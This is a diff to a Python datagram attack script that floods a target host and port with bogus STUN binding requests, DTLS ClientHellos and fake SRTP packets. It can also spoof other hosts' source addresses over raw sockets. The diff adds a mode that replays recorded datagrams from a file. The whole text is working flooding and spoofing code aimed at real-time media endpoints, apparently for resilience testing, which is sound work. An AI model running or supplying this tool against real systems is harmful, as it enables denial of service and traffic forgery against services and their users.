@@ -1,8 +1,9 @@
-"""Attacks by datagram: `udp.py KIND HOST PORT SECONDS [SOURCE]`.
+"""Attacks by datagram: `udp.py KIND HOST PORT SECONDS [SOURCE or FILE]`.
 
 stun    binding requests with names and passwords that are nobody's
 dtls    ClientHellos, whole and in fragments, from addresses that no ICE check has validated
 srtp    packets that look like SRTP, of every length
+replay  datagrams of a speaker that were recorded on the way, from addresses of others
 forged  the same with the source address and ports of somebody else, by a raw socket
 """
 import random
@@ -45,9 +46,18 @@ def datagram(source, sport, to, payload):
     return head + udp
 
 
+def recorded(path):
+    """Datagrams from a file: two bytes of length before each."""
+    with open(path, "rb") as file:
+        found = []
+        while length := file.read(2):
+            found.append(file.read(int.from_bytes(length, "big")))
+    return found
+
+
 def main(kind, host, port, seconds, source="10.77.0.9"):
     to, rng, sent, failed = (host, int(port)), random.Random(1), 0, 0
-    made = [{"stun": stun, "dtls": dtls, "srtp": srtp}.get(kind, srtp)(rng) for _ in range(4096)]
+    made = recorded(source) if kind == "replay" else [{"stun": stun, "dtls": dtls, "srtp": srtp}.get(kind, srtp)(rng) for _ in range(4096)]
     if kind == "forged":
         raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
         made = [datagram(source, rng.randrange(1024, 65536), to, one) for one in made]
@@ -60,10 +70,11 @@ def main(kind, host, port, seconds, source="10.77.0.9"):
             line.connect(to)
             lines.append(line)
         send = [line.send for line in lines]
+    some = len(made)
     for n in until(float(seconds)):
         for m in range(256):
             try:
-                send[(n * 256 + m) % len(send)](made[rng.randrange(4096)])
+                send[(n * 256 + m) % len(send)](made[rng.randrange(some)])
                 sent += 1
             except OSError:
                 failed += 1
